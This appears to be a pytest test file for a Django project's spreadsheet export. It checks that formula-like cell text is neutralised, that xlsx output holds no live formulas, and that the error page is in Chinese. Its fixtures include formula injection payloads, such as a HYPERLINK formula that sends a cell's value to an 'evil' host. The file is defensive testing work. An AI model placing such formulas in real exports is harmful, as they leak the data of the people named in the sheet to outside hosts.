"""The one export layer of lists (core.lists): text a spreadsheet would run
as a formula is neutralised, numbers stay numbers; and the 500 page is Chinese."""

import io

import django_tables2 as tables
import openpyxl
import pytest
from django.test import RequestFactory

from minzheng.core.lists import SafeTableExport, StaffTable
from minzheng.core.spreadsheets import neutralise_formula
from minzheng.core.views import server_error


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x?x="&D2,"查看")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"])
def test_formula_like_text_becomes_plain_text(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "310117***********4", "a=b", 12, -5, 3.5, None])
def test_other_values_are_unchanged(value):
    assert neutralise_formula(value) == value


class _Table(StaffTable):
    name = tables.Column("姓名")
    amount = tables.Column("金额")


def test_xlsx_export_holds_no_live_formula():
    table = _Table([{"name": '=HYPERLINK("http://evil/?"&B2,"查看")', "amount": -12}, {"name": "李四", "amount": 3}])
    content = SafeTableExport("xlsx", table).export()
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("姓名", "金额")
    assert rows[1][0].startswith("'=HYPERLINK") and rows[2][0] == "李四"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
def test_server_error_page_is_chinese():
    request = RequestFactory().get("/")
    from django.contrib.auth.models import AnonymousUser

    request.user = AnonymousUser()
    response = server_error(request)
    assert response.status_code == 500
    assert "系统出错" in response.content.decode()
